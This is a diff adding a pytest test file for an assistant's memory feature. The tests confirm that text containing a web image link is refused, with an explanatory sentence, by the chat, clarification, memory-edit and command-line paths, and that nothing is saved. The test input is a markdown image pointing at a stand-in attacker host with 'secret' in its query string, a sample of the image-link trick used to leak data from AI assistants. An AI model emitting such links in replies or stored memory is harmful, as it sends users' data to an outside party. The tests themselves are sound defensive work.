@@ -1,0 +1,77 @@
+"""What an entry may not carry is refused at every door, with a sentence, and nothing of it is saved."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from typer.testing import CliRunner
+
+from app import compose
+from assistant.errors import InputError, NotKept
+from assistant.types import TurnState
+from memory_store.store import Store
+from tests.support.loop import ME, RIGHT, WRONG, Loop, active
+from ui.command_line import command_line
+from ui.handlers import ConversationHandlers
+from ui.memory_handlers import MemoryHandlers
+from ui.runs import Runs
+
+PICTURE = "I meant this one: ![it](https://attacker.test/p.png?q=secret)"
+SENTENCE = "This holds a picture from the web, which is not kept in memory; please take it out and save again."
+
+
+def test_a_clarification_is_refused_before_anything_is_noted(store: Store) -> None:
+    loop = Loop(store, WRONG)
+    turn = loop.ask("what is akin to quick ?")
+    with pytest.raises(NotKept, match="please take it out and save again"):
+        list(loop.assistant.clarify(turn.id, PICTURE, ME))
+    assert active(store) == []
+    assert [turn.corrected_by for turn in loop.assistant.turns("c", ME)] == [None]
+
+
+def test_the_page_says_why_and_the_words_can_be_changed_and_sent_again(store: Store) -> None:
+    loop = Loop(store, WRONG, RIGHT)
+    turn = loop.ask("what is akin to quick ?")
+    chat = ConversationHandlers(loop.assistant, Runs())
+    sent = {"run": "r", "conversation": "c", "turn": turn.id, "text": PICTURE}
+    assert list(chat.clarify(sent, ME, "page"))[-1]["refused"] == SENTENCE
+    assert not list(chat.clarify(sent | {"text": "a synonym"}, ME, "page"))[-1]["refused"]
+    assert active(store) == ["a synonym"]
+
+
+def test_a_correction_in_chat_ends_with_the_sentence_and_can_be_said_again(store: Store) -> None:
+    loop = Loop(store, WRONG, "<correction>this one</correction>", "<correction>a synonym</correction>", RIGHT)
+    loop.ask("what is akin to quick ?")
+    refused = loop.ask(f"no, {PICTURE}")
+    assert (refused.state, refused.error) == (TurnState.FAILED, SENTENCE)
+    assert active(store) == []
+
+
+def test_an_edit_and_a_wording_are_refused(store: Store) -> None:
+    loop = Loop(store, WRONG, RIGHT)
+    loop.clarify(loop.ask("what is akin to quick ?"), "a synonym")
+    (entry,) = store.memory.entries(ME)
+    page = MemoryHandlers(store.memory)
+    assert page.edit({"entry": entry.id, "text": PICTURE}, ME) == {"refused": SENTENCE}
+    assert page.rekey({"entry": entry.id, "old": "", "new": PICTURE}, ME) == {"refused": SENTENCE}
+    assert store.memory.entry(entry.id, ME) == entry
+    with pytest.raises(InputError, match="2,001 characters long"):
+        store.memory.edit(entry.id, "x" * 2001, ME)
+
+
+@pytest.fixture
+def command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Any]:
+    monkeypatch.setenv("NOTED_HOME", str(tmp_path))
+    monkeypatch.setenv("NOTED_EMBEDDER", "none")
+    return lambda *words: CliRunner().invoke(command_line(compose, serve=lambda settings: None), words)
+
+
+def test_the_command_line_says_why(command: Callable[..., Any]) -> None:
+    question = command("ask", "what is akin to quick ?", "--json").stdout
+    turn = question.split('"turn": "')[1].split('"')[0]
+    refused = command("clarify", turn, PICTURE)
+    assert (refused.exit_code, refused.stderr.strip()) == (1, SENTENCE)
+    assert command("memory", "list").stdout == ""
